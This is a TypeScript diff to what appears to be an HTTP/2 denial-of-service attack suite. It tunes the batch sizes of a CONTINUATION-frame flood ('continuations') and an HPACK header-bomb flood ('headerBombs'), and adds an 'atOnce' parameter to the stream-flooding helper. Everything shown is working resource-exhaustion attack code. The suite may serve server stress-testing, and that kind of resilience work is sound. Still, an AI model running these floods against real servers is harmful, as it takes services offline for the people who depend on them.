@@ -33,12 +33,12 @@ const attack =
       },
     });
 
-/** Calls `build` with the number of each new stream, a batch at a time. */
-function floodStreams(socket: Socket, build: (stream: number) => readonly Buffer[]): void {
+/** Calls `build` with the number of each new stream, so many at a time. */
+function floodStreams(socket: Socket, build: (stream: number) => readonly Buffer[], atOnce = batch): void {
   let stream = -1;
   flood(socket, () =>
     Buffer.concat(
-      Array.from({ length: batch }, () => {
+      Array.from({ length: atOnce }, () => {
         stream += 2;
         return stream < lastStream ? Buffer.concat(build(stream)) : Buffer.alloc(0);
       }),
@@ -70,7 +70,7 @@ export const continuations = attack((socket) => {
   socket.write(opening(1, getSmall, 0));
   const header = Buffer.concat([Buffer.from([0]), encodeString("x-more"), encodeString("a".repeat(1_000))]);
   const frame = buildFrame({ type: "continuation", stream: 1, payload: header });
-  const frames = Buffer.concat(Array.from({ length: batch }, () => frame));
+  const frames = Buffer.concat(Array.from({ length: 10 }, () => frame));
   flood(socket, () => frames);
 });
 
@@ -129,5 +129,5 @@ export const headerBombs = attack((socket) => {
     encodeString("a".repeat(3_900)),
     Buffer.alloc(8_000, 0x80 | 62),
   ]);
-  floodStreams(socket, (stream) => [opening(stream, bomb)]);
+  floodStreams(socket, (stream) => [opening(stream, bomb)], 2);
 });
